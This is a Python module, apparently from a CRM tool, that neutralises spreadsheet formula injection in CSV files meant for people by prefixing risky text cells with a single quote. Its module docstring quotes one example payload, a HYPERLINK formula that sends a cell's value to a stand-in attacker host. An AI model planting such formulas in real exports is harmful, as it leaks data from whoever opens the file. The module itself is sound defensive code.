"""CSV files written for people: cells a spreadsheet would run as a formula are neutralised.

A worklist carries names and companies that anyone can type into a web-to-lead form. A cell such
as ``=HYPERLINK("http://evil.example/?x="&A2,"Click me")`` is a live formula when a rep opens
the file in Excel or LibreOffice. OWASP's rule for CSV injection: a text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which the
spreadsheet shows as text and does not evaluate. Only text columns change; numbers, dates and
booleans are written as they are (a negative number stays a number).
"""

from __future__ import annotations

from typing import TypeVar

import polars as pl

#: The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: What goes in front of such a cell so that it is shown as text.
NEUTRALISING_PREFIX = "'"

_TRIGGER_PATTERN = "^[" + "".join(FORMULA_TRIGGERS).replace("-", r"\-") + "]"

FrameT = TypeVar("FrameT", pl.DataFrame, pl.LazyFrame)


def neutralise_formulas(frame: FrameT) -> FrameT:
    """Prefix every text cell that a spreadsheet would evaluate with a single quote.

    Args:
        frame: Any table; only its ``String`` columns change.

    Returns:
        The same table (eager or lazy, as given) with formula-like text cells neutralised.
    """
    text = [name for name, dtype in frame.collect_schema().items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_TRIGGER_PATTERN))
        .then(pl.lit(NEUTRALISING_PREFIX) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )


def csv_for_people(frame: pl.DataFrame | pl.LazyFrame) -> bytes:
    """The table as UTF-8 CSV with a header row, formula-like text cells neutralised.

    Every CSV ierkit writes for a person to open (worklists, email attachments) goes through
    here; machine-read files (extracts, Bulk API uploads) must not, since the quote would
    change their values.
    """
    collected = frame.collect() if isinstance(frame, pl.LazyFrame) else frame
    return neutralise_formulas(collected).write_csv().encode("utf-8")
